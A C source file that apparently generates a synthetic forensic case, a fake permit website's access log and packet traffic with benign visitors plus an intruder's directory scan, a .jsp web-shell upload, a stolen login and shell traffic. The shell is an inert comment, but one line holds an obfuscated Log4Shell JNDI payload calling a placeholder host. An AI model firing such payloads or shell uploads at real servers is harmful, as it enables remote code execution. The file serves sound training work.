/* SPDX-License-Identifier: Apache-2.0 */
/*
 * case_web: the web site of the case: its files, its visitors, what the
 * intruder asks of it.  Every request becomes a line of access.log; those on
 * a connection that the tap kept become packets too, byte for byte the same.
 *
 * Owner: log lines belong to struct world.
 * Inert: the "shell" is a comment, and its traffic is random octets in base64.
 */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "case.h"

#define HOST	"permits.example.org"
#define CLIENTS	20

static const char marker[] =
    "<%-- inert placeholder: a web shell stood here --%>\n";
static const char shell_uri[] = "/app/uploads/img_0712.jsp";
static const char attacker_agent[] = "Mozilla/5.0 (Windows NT 10.0; Win64; "
    "x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/102.0.5005.63 "
    "Safari/537.36";
static const char shell_agent[] = "Mozilla/4.0 (compatible; MSIE 8.0; "
    "Windows NT 6.1; Trident/4.0)";

static const char *const agents[] = {
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, "
	    "like Gecko) Chrome/103.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:102.0) Gecko/20100101 "
	    "Firefox/102.0",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 "
	    "(KHTML, like Gecko) Version/15.5 Safari/605.1.15",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 15_5 like Mac OS X) AppleWebKit/"
	    "605.1.15 (KHTML, like Gecko) Version/15.5 Mobile/15E148 "
	    "Safari/604.1",
	"Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:101.0) Gecko/20100101 "
	    "Firefox/101.0"
};

#define PAGE_HEAD \
	"<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n" \
	"<meta charset=\"utf-8\">\n<title>Permit register</title>\n" \
	"<link rel=\"stylesheet\" href=\"/css/site.css\">\n" \
	"<script src=\"/js/site.js\" defer></script>\n</head>\n<body>\n" \
	"<header><img src=\"/img/logo.svg\" alt=\"\"> Shire of Example" \
	"</header>\n"
#define PAGE_TAIL "<footer>Shire of Example, documentation only</footer>\n" \
	"</body>\n</html>\n"

static const struct page {
	const char *uri, *file, *type, *body;
} pages[] = {
	{ "/", "index.html", "text/html;charset=UTF-8", PAGE_HEAD
	    "<main>\n<h1>Building permits</h1>\n<p>Look up, apply for and "
	    "follow a permit in the <a href=\"/app/\">register</a>.</p>\n"
	    "<ul>\n<li><a href=\"/news/2022-06.html\">News of June</a></li>\n"
	    "<li><a href=\"/contact.html\">Contact</a></li>\n</ul>\n</main>\n"
	    PAGE_TAIL },
	{ "/contact.html", "contact.html", "text/html;charset=UTF-8", PAGE_HEAD
	    "<main>\n<h1>Contact</h1>\n<p>Write to permits@example.org. The "
	    "counter is open from nine to four.</p>\n</main>\n" PAGE_TAIL },
	{ "/news/2022-06.html", "news/2022-06.html",
	    "text/html;charset=UTF-8", PAGE_HEAD
	    "<main>\n<h1>June 2022</h1>\n<p>Photographs of a site can now be "
	    "sent with an application.</p>\n<p>The register is closed for "
	    "maintenance on the first Sunday of each month.</p>\n</main>\n"
	    PAGE_TAIL },
	{ "/css/site.css", "css/site.css", "text/css",
	    "body { font: 16px/1.5 sans-serif; margin: 0 auto; "
	    "max-width: 60em; }\nheader { background: #234; color: #fff; "
	    "padding: 1em; }\nmain { padding: 1em; }\nfooter { color: #666; "
	    "font-size: smaller; padding: 1em; }\ntable { border-collapse: "
	    "collapse; }\ntd, th { border: 1px solid #ccc; padding: .3em; }\n"
	},
	{ "/js/site.js", "js/site.js", "application/javascript",
	    "document.addEventListener(\"DOMContentLoaded\", () => {\n"
	    "\tconst box = document.querySelector(\"input[name=q]\");\n"
	    "\tif (box)\n\t\tbox.focus();\n});\n" },
	{ "/img/logo.svg", "img/logo.svg", "image/svg+xml",
	    "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"32\" "
	    "height=\"32\"><rect width=\"32\" height=\"32\" fill=\"#8ab\"/>"
	    "<path d=\"M4 28V14L16 4l12 10v14z\" fill=\"#fff\"/></svg>\n" },
	{ "/robots.txt", "robots.txt", "text/plain",
	    "User-agent: *\nDisallow: /app/\n" }
};
#define PAGES (sizeof(pages) / sizeof(pages[0]))

/* what a request carries; NULL or 0 where there is nothing */
struct ask {
	const char *method, *uri, *referer, *agent, *cookie, *type;
	struct buf body;
	int status;
	const char *answer_type, *location;
	struct buf answer;
};

/* a visitor; live: the tap kept the packets of this connection */
struct visit {
	struct world *w;
	uint32_t ip;
	int64_t now_us;
	int live;
	struct tcp tcp;
};

static const char *const months[] = {
	"Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct",
	"Nov", "Dec"
};
static const char *const weekdays[] = {
	"Sun", "Mon", "Tue", "Wed", "Thu", "Fri", "Sat"
};

static void
add_line(struct world *w, const struct visit *v, const struct ask *a)
{
	struct civil c = civil_of(v->now_us);
	struct buf b = { 0 };
	struct log_line *l;
	char ip[16];

	buf_fmt(&b, "%s - - [%02d/%s/%04d:%02d:%02d:%02d +0000] "
	    "\"%s %s HTTP/1.1\" %d ", ip_text(v->ip, ip), c.day,
	    months[c.month - 1], c.year, c.hour, c.minute, c.second,
	    a->method, a->uri, a->status);
	if (a->answer.len != 0)
		buf_fmt(&b, "%zu", a->answer.len);
	else
		buf_str(&b, "-");
	buf_fmt(&b, " \"%s\" \"%s\"\n", a->referer != NULL ? a->referer : "-",
	    a->agent != NULL ? a->agent : "-");
	buf_u8(&b, 0);
	if (w->line_count == w->line_cap) {
		w->line_cap = w->line_cap * 2 + 256;
		w->lines = realloc(w->lines, w->line_cap * sizeof(*l));
		if (w->lines == NULL)
			abort();
	}
	l = &w->lines[w->line_count];
	l->time_us = v->now_us;
	l->order = (uint32_t)w->line_count++;
	l->text = (char *)b.data;
}

static const char *
reason(int status)
{
	switch (status) {
	case 200: return "OK";
	case 302: return "Found";
	case 304: return "Not Modified";
	case 401: return "Unauthorized";
	case 403: return "Forbidden";
	case 404: return "Not Found";
	default: return "Unknown";
	}
}

static void
put_request(struct buf *b, const struct ask *a)
{
	buf_fmt(b, "%s %s HTTP/1.1\r\nHost: " HOST "\r\n", a->method, a->uri);
	if (a->agent != NULL)
		buf_fmt(b, "User-Agent: %s\r\n", a->agent);
	buf_str(b, "Accept: */*\r\n");
	if (a->referer != NULL)
		buf_fmt(b, "Referer: %s\r\n", a->referer);
	if (a->cookie != NULL)
		buf_fmt(b, "Cookie: %s\r\n", a->cookie);
	if (a->body.len != 0)
		buf_fmt(b, "Content-Type: %s\r\nContent-Length: %zu\r\n",
		    a->type, a->body.len);
	buf_str(b, "Connection: keep-alive\r\n\r\n");
	buf_cat(b, &a->body);
}

static void
put_reply(struct buf *b, const struct ask *a, int64_t now_us)
{
	struct civil c = civil_of(now_us);

	buf_fmt(b, "HTTP/1.1 %d %s\r\nDate: %s, %02d %s %04d %02d:%02d:%02d "
	    "GMT\r\nServer: Apache/2.4.53\r\n", a->status, reason(a->status),
	    weekdays[c.weekday], c.day, months[c.month - 1], c.year, c.hour,
	    c.minute, c.second);
	if (a->location != NULL)
		buf_fmt(b, "Location: %s\r\n", a->location);
	if (a->status == 401)
		buf_str(b, "WWW-Authenticate: Basic realm=\"manager\"\r\n");
	if (a->answer.len != 0)
		buf_fmt(b, "Content-Type: %s\r\n", a->answer_type);
	if (a->status != 304)
		buf_fmt(b, "Content-Length: %zu\r\n", a->answer.len);
	buf_str(b, "Connection: keep-alive\r\n\r\n");
	buf_cat(b, &a->answer);
}

static struct visit
begin_visit(struct world *w, uint32_t ip, int64_t time_us, int live)
{
	struct visit v = { .w = w, .ip = ip, .now_us = time_us, .live = live };

	if (live) {
		tcp_open(&v.tcp, &w->net, time_us, ip, next_port(w),
		    IP_WEB_PUBLIC, 80, 9000 + ip % 41 * 1000, 300);
		v.now_us = v.tcp.time_us;
	}
	return v;
}

static void
end_visit(struct visit *v)
{
	if (v->live) {
		tcp_wait(&v->tcp, SEC(5));
		tcp_close(&v->tcp, 1);
	}
}

/* request and answer; frees the bodies */
static void
exchange(struct visit *v, struct ask *a)
{
	struct buf b = { 0 };

	if (v->live) {
		tcp_wait_until(&v->tcp, v->now_us);
		put_request(&b, a);
		tcp_send(&v->tcp, 0, &b);
		v->now_us = v->tcp.time_us;	/* what the server logs */
		b.len = 0;
		put_reply(&b, a, v->now_us);
		tcp_wait(&v->tcp, rng_range(&v->w->rng, 800, 9000));
		tcp_send(&v->tcp, 1, &b);
		buf_free(&b);
	}
	add_line(v->w, v, a);
	buf_free(&a->body);
	buf_free(&a->answer);
	if (v->live)
		v->now_us = v->tcp.time_us;
}

static void
pause_ms(struct visit *v, uint32_t lo, uint32_t hi)
{
	v->now_us += (int64_t)rng_range(&v->w->rng, lo, hi) * 1000;
}

static struct ask
asking(const char *method, const char *uri, const char *referer,
    const char *agent, int status)
{
	struct ask a = { .method = method, .uri = uri, .referer = referer,
	    .agent = agent, .status = status,
	    .answer_type = "text/html;charset=UTF-8" };

	return a;
}

static void
plain_answer(struct ask *a)
{
	if (a->status == 404)
		buf_fmt(&a->answer, "<!DOCTYPE html><html><head><title>404"
		    "</title></head><body><h1>Not found</h1><p>There is "
		    "nothing at this address.</p></body></html>\n");
	else
		buf_fmt(&a->answer, "<!DOCTYPE html><html><head><title>%d"
		    "</title></head><body><h1>%s</h1></body></html>\n",
		    a->status, reason(a->status));
}

static void
get_static(struct visit *v, const char *uri, const char *referer,
    const char *agent, int cached)
{
	struct ask a = asking("GET", uri, referer, agent, 404);
	size_t i;

	for (i = 0; i < PAGES; i++) {
		if (strcmp(pages[i].uri, uri) != 0)
			continue;
		a.status = cached ? 304 : 200;
		a.answer_type = pages[i].type;
		if (!cached)
			buf_str(&a.answer, pages[i].body);
	}
	if (a.status == 404)
		plain_answer(&a);
	exchange(v, &a);
}

/* a page of the application: a table of rows permits */
static void
dynamic_answer(struct ask *a, struct rng *r, const char *title, unsigned rows)
{
	static const char *const kinds[] = {
		"garage", "carport", "fence", "patio", "shed", "dwelling",
		"pool", "extension"
	};
	unsigned i, number, kind;

	buf_fmt(&a->answer, PAGE_HEAD "<main>\n<h1>%s</h1>\n<form "
	    "method=\"post\" action=\"/app/search.jsp\"><input name=\"q\"> "
	    "<button>Search</button></form>\n<table>\n", title);
	for (i = 0; i < rows; i++) {
		/* one by one: C leaves the order of arguments open */
		number = rng_range(r, 1, 1800);
		kind = rng_below(r, 8);
		buf_fmt(&a->answer, "<tr><td>BP-2022-%04u</td><td>%s</td>"
		    "<td>lot %u</td></tr>\n", number, kinds[kind],
		    rng_range(r, 1, 480));
	}
	buf_str(&a->answer, "</table>\n</main>\n" PAGE_TAIL);
}

static void
get_dynamic(struct visit *v, const char *uri, const char *referer,
    const char *agent, const char *title, unsigned rows)
{
	struct ask a = asking("GET", uri, referer, agent, 200);

	a.cookie = "JSESSIONID=5A0C6E1F0B2D4D38";
	dynamic_answer(&a, &v->w->rng, title, rows);
	exchange(v, &a);
}

static void
post_form(struct visit *v, const char *uri, const char *referer,
    const char *agent, const char *form, unsigned rows)
{
	struct ask a = asking("POST", uri, referer, agent, 200);

	a.cookie = "JSESSIONID=5A0C6E1F0B2D4D38";
	a.type = "application/x-www-form-urlencoded";
	buf_str(&a.body, form);
	if (rows == 0) {
		a.status = 302;
		a.location = "/app/account.jsp";
	} else {
		dynamic_answer(&a, &v->w->rng, "Permits found", rows);
	}
	exchange(v, &a);
}

static void
assets(struct visit *v, const char *page, const char *agent, int cached)
{
	char referer[128];

	snprintf(referer, sizeof(referer), "http://" HOST "%s", page);
	pause_ms(v, 40, 160);
	get_static(v, "/css/site.css", referer, agent, cached);
	pause_ms(v, 5, 60);
	get_static(v, "/js/site.js", referer, agent, cached);
	pause_ms(v, 5, 60);
	get_static(v, "/img/logo.svg", referer, agent, cached);
}

static void
post_upload(struct visit *v, const char *referer, const char *agent,
    const char *file, const struct buf *content)
{
	struct ask a = asking("POST", "/app/upload.jsp", referer, agent, 200);

	a.type = "multipart/form-data; boundary=----form7d61c3a09be2";
	a.cookie = "JSESSIONID=5A0C6E1F0B2D4D38";
	buf_fmt(&a.body, "------form7d61c3a09be2\r\nContent-Disposition: "
	    "form-data; name=\"permit\"\r\n\r\nBP-2022-0712\r\n"
	    "------form7d61c3a09be2\r\nContent-Disposition: form-data; "
	    "name=\"photo\"; filename=\"%s\"\r\nContent-Type: image/jpeg"
	    "\r\n\r\n", file);
	buf_cat(&a.body, content);
	buf_str(&a.body, "\r\n------form7d61c3a09be2--\r\n");
	buf_fmt(&a.answer, PAGE_HEAD "<main><p>Stored as uploads/%s</p>"
	    "</main>\n" PAGE_TAIL, file);
	exchange(v, &a);
}

/* a photograph: the outside of a JPEG, random octets as its comment */
static void
benign_upload(struct visit *v, const char *agent)
{
	struct buf photo = { 0 };
	char name[32];
	uint32_t len;

	buf_put(&photo, "\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01"
	    "\x00\x01\x00\x00\xff\xfe", 22);
	len = rng_range(&v->w->rng, 2000, 5000);
	buf_be16(&photo, len + 2);
	buf_rand(&photo, &v->w->rng, len);
	buf_put(&photo, "\xff\xd9", 2);
	snprintf(name, sizeof(name), "site_%04u.jpg",
	    rng_below(&v->w->rng, 9999));
	post_upload(v, "http://" HOST "/app/upload.jsp", agent, name, &photo);
	buf_free(&photo);
}

static void
benign_action(struct visit *v, const char *agent)
{
	static const char *const words[] = {
		"garage", "lot+17", "BP-2022-0431", "pool", "fence", "smith",
		"main+street", "shed"
	};
	const char *word = words[rng_below(&v->w->rng, 8)];
	const char *app = "http://" HOST "/app/";
	char text[96];

	switch (rng_below(&v->w->rng, 12)) {
	case 0:
		get_static(v, "/contact.html", "http://" HOST "/", agent, 0);
		break;
	case 1:
		get_static(v, "/news/2022-06.html", "http://" HOST "/", agent,
		    0);
		break;
	case 2:
		get_static(v, "/favicon.ico", "http://" HOST "/", agent, 0);
		break;
	case 3:
		get_dynamic(v, "/app/login.jsp", app, agent, "Sign in", 1);
		pause_ms(v, 6000, 20000);
		post_form(v, "/app/login.jsp", "http://" HOST "/app/login.jsp",
		    agent, "user=resident&password=not-shown", 0);
		pause_ms(v, 60, 200);
		get_dynamic(v, "/app/account.jsp", "http://" HOST
		    "/app/login.jsp", agent, "Your permits", 4);
		break;
	case 4: case 5: case 6:
		snprintf(text, sizeof(text), "q=%s", word);
		post_form(v, "/app/search.jsp", app, agent, text,
		    rng_range(&v->w->rng, 1, 14));
		break;
	case 7: case 8:
		get_dynamic(v, "/app/", "http://" HOST "/", agent,
		    "Permit register", 12);
		break;
	default:
		snprintf(text, sizeof(text), "/app/search.jsp?q=%s&page=%u",
		    word, rng_range(&v->w->rng, 1, 9));
		get_dynamic(v, text, app, agent, "Permits found",
		    rng_range(&v->w->rng, 1, 14));
		break;
	}
}

static void
benign_session(struct world *w, int64_t time_us, unsigned number)
{
	unsigned who = rng_below(&w->rng, CLIENTS), steps, i;
	uint32_t ip = IP4(198, 51, 100, 130 + who * 5);
	const char *agent = agents[who % 5];
	struct visit v;

	v = begin_visit(w, ip, time_us, number % 9 == 0);
	get_static(&v, "/", number % 3 == 0 ? "https://search.example.com/" :
	    NULL, agent, 0);
	assets(&v, "/", agent, number % 4 == 3);
	steps = rng_range(&w->rng, 1, 7);
	for (i = 0; i < steps; i++) {
		pause_ms(&v, 2500, 24000);
		benign_action(&v, agent);
	}
	if (number % 67 == 27) {
		pause_ms(&v, 3000, 9000);
		get_dynamic(&v, "/app/upload.jsp", "http://" HOST "/app/",
		    agent, "Send a photograph", 1);
		pause_ms(&v, 9000, 30000);
		benign_upload(&v, agent);
	}
	end_visit(&v);
}

static void
crawler(struct world *w, int64_t time_us)
{
	static const char agent[] =
	    "ExampleBot/1.0 (+http://crawler.example.net/)";
	struct visit v = begin_visit(w, IP4(192, 0, 2, 200), time_us, 0);
	size_t i;

	get_static(&v, "/robots.txt", NULL, agent, 0);
	for (i = 0; i < 3; i++) {
		pause_ms(&v, 4000, 9000);
		get_static(&v, pages[i].uri, NULL, agent, 0);
	}
}

static void
health_check(struct world *w, int64_t time_us)
{
	struct visit v = begin_visit(w, IP4(192, 0, 2, 60), time_us, 0);
	struct ask a = asking("GET", "/healthz", NULL,
	    "uptime-check/2.1 (monitor.example.net)", 200);

	a.answer_type = "text/plain";
	buf_str(&a.answer, "ok\n");
	exchange(&v, &a);
}

void
web_background(struct world *w, int64_t from_us, int64_t until_us)
{
	unsigned number = 0, today, i;
	int64_t day_us, t_us;
	struct civil c;

	for (day_us = from_us; day_us < until_us; day_us += DAYS(1)) {
		c = civil_of(day_us);
		today = c.weekday == 0 || c.weekday == 6 ? 3 : 8;
		for (i = 0; i < today; i++) {
			t_us = day_us + SEC(rng_below(&w->rng, 9 * 3600));
			t_us += rng_below(&w->rng, 1000000);
			benign_session(w, t_us, number++);
		}
		crawler(w, day_us + HOURS(14) +
		    SEC(rng_below(&w->rng, 3000)));
		for (i = 0; i < 4; i++)
			health_check(w, day_us + HOURS(6 * i) + SEC(17) +
			    rng_below(&w->rng, 900000));
	}
}

void
web_front_page(struct world *w, int64_t time_us)
{
	struct visit v = begin_visit(w, IP_ROUTER, time_us, 1);

	get_static(&v, "/", NULL, attacker_agent, 0);
	assets(&v, "/", attacker_agent, 0);
	pause_ms(&v, 8000, 12000);
	get_dynamic(&v, "/app/", "http://" HOST "/", attacker_agent,
	    "Permit register", 12);
	end_visit(&v);
}

/* what a wordlist asks of a Java site; those that exist answer 200 */
static const struct step {
	const char *uri;
	int status;
} walk[] = {
	{ "/admin/", 404 }, { "/administrator/", 404 }, { "/api/", 404 },
	{ "/api/v1/users", 404 }, { "/app/", 200 }, { "/app/admin/", 404 },
	{ "/app/admin.jsp", 404 }, { "/app/api/", 404 },
	{ "/app/backup/", 404 }, { "/app/config.jsp", 404 },
	{ "/app/console/", 404 }, { "/app/debug.jsp", 404 },
	{ "/app/download.jsp", 404 }, { "/app/export.jsp", 404 },
	{ "/app/file.jsp", 404 }, { "/app/files/", 404 },
	{ "/app/help.jsp", 404 }, { "/app/import.jsp", 404 },
	{ "/app/index.jsp", 404 }, { "/app/install.jsp", 404 },
	{ "/app/login.jsp", 200 }, { "/app/logs/", 404 },
	{ "/app/manage.jsp", 404 }, { "/app/report.jsp", 404 },
	{ "/app/search.jsp", 200 }, { "/app/services/", 404 },
	{ "/app/setup.jsp", 404 }, { "/app/static/", 404 },
	{ "/app/status.jsp", 404 }, { "/app/test.jsp", 404 },
	{ "/app/tmp/", 404 }, { "/app/upload/", 404 },
	{ "/app/upload.do", 404 }, { "/app/upload.jsp", 200 },
	{ "/app/uploads/", 403 }, { "/app/user.jsp", 404 },
	{ "/app/WEB-INF/", 404 }, { "/app/xmlrpc", 404 },
	{ "/axis2/", 404 }, { "/backup.zip", 404 }, { "/console/", 404 },
	{ "/data/", 404 }, { "/docs/", 404 }, { "/examples/", 404 },
	{ "/host-manager/html", 403 }, { "/images/", 404 },
	{ "/jmx-console/", 404 }, { "/login", 404 },
	{ "/manager/html", 401 }, { "/manager/status", 403 },
	{ "/old/", 404 }, { "/phpinfo.php", 404 }, { "/portal/", 404 },
	{ "/private/", 404 }, { "/server-status", 403 },
	{ "/solr/", 404 }, { "/struts/", 404 }, { "/swagger-ui.html", 404 },
	{ "/test/", 404 }, { "/upload", 404 }, { "/web.config", 404 },
	{ "/webdav/", 404 }
};

void
web_path_walk(struct world *w, int64_t time_us)
{
	struct visit v = begin_visit(w, IP_ROUTER, time_us, 1);
	struct ask a;
	size_t i;

	for (i = 0; i < sizeof(walk) / sizeof(walk[0]); i++) {
		if (i % 16 == 15) {
			end_visit(&v);
			v = begin_visit(w, IP_ROUTER, v.now_us + 300000, 1);
		}
		a = asking("GET", walk[i].uri, NULL, attacker_agent,
		    walk[i].status);
		if (a.status == 200)
			dynamic_answer(&a, &w->rng, "Permit register", 3);
		else
			plain_answer(&a);
		exchange(&v, &a);
		pause_ms(&v, 1200, 2400);
	}
	end_visit(&v);
}

void
web_log4shell_probe(struct world *w, int64_t time_us)
{
	struct visit v = begin_visit(w, IP_ROUTER, time_us, 1);
	struct ask a = asking("GET", "/app/status.do", NULL,
	    "${${lower:j}ndi:${lower:l}${lower:d}ap://203.0.113.77:1389/a}",
	    404);

	plain_answer(&a);
	exchange(&v, &a);
	end_visit(&v);
}

void
web_upload(struct world *w, int64_t time_us, uint32_t ip)
{
	struct visit v = begin_visit(w, ip, time_us, 1);
	struct buf text = { 0 };

	buf_str(&text, marker);
	post_upload(&v, NULL, attacker_agent, "img_0712.jsp", &text);
	end_visit(&v);
	buf_free(&text);
}

void
web_stolen_login(struct world *w, int64_t time_us)
{
	struct visit v = begin_visit(w, IP_SECOND, time_us, 1);

	post_form(&v, "/app/login.jsp", "http://" HOST "/app/login.jsp",
	    attacker_agent, "user=m.keller&password=not-shown", 0);
	pause_ms(&v, 200, 400);
	get_dynamic(&v, "/app/account.jsp", "http://" HOST "/app/login.jsp",
	    attacker_agent, "Your permits", 6);
	end_visit(&v);
}

void
web_shell(struct world *w, int64_t time_us, uint32_t ip, unsigned count,
    int64_t span_us)
{
	uint32_t gap_ms = (uint32_t)(span_us / 1000 / count);
	struct visit v = begin_visit(w, ip, time_us, 1);
	struct ask a;
	unsigned i;

	for (i = 0; i < count; i++) {
		if (i % 5 == 4) {
			end_visit(&v);
			v = begin_visit(w, ip, v.now_us + 900000, 1);
		}
		a = asking("POST", shell_uri, NULL, shell_agent, 200);
		a.type = "application/octet-stream";
		buf_rand_base64(&a.body, &w->rng,
		    rng_range(&w->rng, 90, 900));
		buf_rand_base64(&a.answer, &w->rng, i % 4 == 3 ?
		    rng_range(&w->rng, 1500, 4200) :
		    rng_range(&w->rng, 24, 700));
		a.answer_type = "text/html";
		exchange(&v, &a);
		pause_ms(&v, gap_ms / 2, gap_ms);
	}
	end_visit(&v);
}

int
web_write_root(const char *dir)
{
	static const char note[] = "Photographs that applicants send.\n"
	    "In this example folder the .jsp is an inert marker: a comment, "
	    "no code.\n";
	char name[64];
	size_t i;

	for (i = 0; i < PAGES; i++) {
		snprintf(name, sizeof(name), "webroot/%s", pages[i].file);
		if (write_file(dir, name, pages[i].body,
		    strlen(pages[i].body)) != 0)
			return -1;
	}
	if (write_file(dir, "webroot/app/uploads/README.txt", note,
	    strlen(note)) != 0)
		return -1;
	return write_file(dir, "webroot/app/uploads/img_0712.jsp", marker,
	    strlen(marker));
}

static int
by_time(const void *a, const void *b)
{
	const struct log_line *x = a, *y = b;

	if (x->time_us != y->time_us)
		return x->time_us < y->time_us ? -1 : 1;
	return x->order < y->order ? -1 : 1;
}

int
web_write_log(struct world *w, const char *dir)
{
	struct buf b = { 0 };
	size_t i;
	int rc;

	qsort(w->lines, w->line_count, sizeof(*w->lines), by_time);
	for (i = 0; i < w->line_count; i++) {
		buf_str(&b, w->lines[i].text);
		free(w->lines[i].text);
	}
	free(w->lines);
	w->lines = NULL;
	rc = write_file(dir, "access.log", b.data, b.len);
	buf_free(&b);
	return rc;
}
